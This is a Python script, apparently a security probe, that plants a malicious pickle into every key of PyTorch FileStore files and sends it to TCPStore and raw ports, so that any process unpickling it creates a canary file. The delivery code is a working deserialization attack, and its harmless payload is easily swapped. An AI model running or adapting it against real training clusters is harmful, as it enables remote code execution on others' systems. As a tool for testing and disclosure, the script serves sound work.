"""Puts a pickle wherever a run would take bytes from a stranger: into every key of its stores, and
down every port.

    python planting.py CANARY FILE... ADDRESS:PORT...

Whoever unpickles it makes the file CANARY.
"""

import os
import pickle
import socket
import struct
import sys
import threading
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

WAIT_S = 3.0
# What torch's rendezvous, its stores and its process groups keep under keys of such names.
KEYS = (
    "/rdzv/state",
    "torch.rendezvous.none",
    "default_pg/0//cpu//0",
    "default_pg/0//cpu//1",
    "store_based_barrier_key:1",
)


class Evil:
    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        return (Path.touch, (Path(self.canary),))  # type: ignore[return-value]


def into_file(path: Path, payload: bytes) -> int:
    """Every key of a FileStore another value: it is a list of lengths, keys and values, where the
    last one counts. Returns how many."""
    raw, at, keys = path.read_bytes(), 0, []
    while at < len(raw):
        parts = []
        for _ in range(2):
            (size,) = struct.unpack_from("<i", raw, at)
            parts.append(raw[at + 4 : at + 4 + size])
            at += 4 + size
        keys.append(parts[0])
    with path.open("ab") as file:
        for key in {*keys, *(f"/{name}".encode() for name in KEYS)} - {b"refcount/"}:
            file.write(
                struct.pack("<i", len(key)) + key + struct.pack("<i", len(payload)) + payload
            )
    return len(keys)


def into_ports(places: list[str], payload: bytes) -> dict[str, int]:
    """As it is, and behind its length as libraries write one; then as a client of torch's own
    store. All at once: a rank that a stranger has talked to may end, and with it the others."""
    sent = dict.fromkeys(places, 0)
    there = [(place, socket.create_connection(_address(place), WAIT_S)) for place in places]
    for head in (
        b"",
        struct.pack("<q", len(payload)),
        struct.pack(">q", len(payload)),
        struct.pack("<i", len(payload)),
    ):
        for place, one in there:
            with suppress(OSError):
                one.sendall(head + payload)
                sent[place] += 1
        there = [(place, again) for place in places for again in _again(place)]
    clients = [
        threading.Thread(target=_set, args=(place, payload), daemon=True) for place in places
    ]
    for client in clients:
        client.start()
    for client in clients:
        # where no store answers, torch's client waits for longer than it is told
        client.join(WAIT_S)
    return sent


def _set(place: str, payload: bytes) -> None:
    import torch.distributed as dist

    with suppress(RuntimeError):
        store = dist.TCPStore(*_address(place), None, False, timeout=timedelta(seconds=WAIT_S))  # type: ignore[attr-defined]
        for key in KEYS:
            store.set(key, payload)


def _again(place: str) -> list[socket.socket]:
    with suppress(OSError):
        return [socket.create_connection(_address(place), WAIT_S)]
    return []


def _address(place: str) -> tuple[str, int]:
    address, _, port = place.rpartition(":")
    return address, int(port)


def main(canary: str, *places: str) -> None:
    payload = pickle.dumps(Evil(canary))
    for path in [place for place in places if place.startswith("/")]:
        print(path, into_file(Path(path), payload))
    for place, times in into_ports(
        [place for place in places if not place.startswith("/")], payload
    ).items():
        print(place, times)


if __name__ == "__main__":
    main(*sys.argv[1:])
    sys.stdout.flush()
    os._exit(0)  # clients that still wait
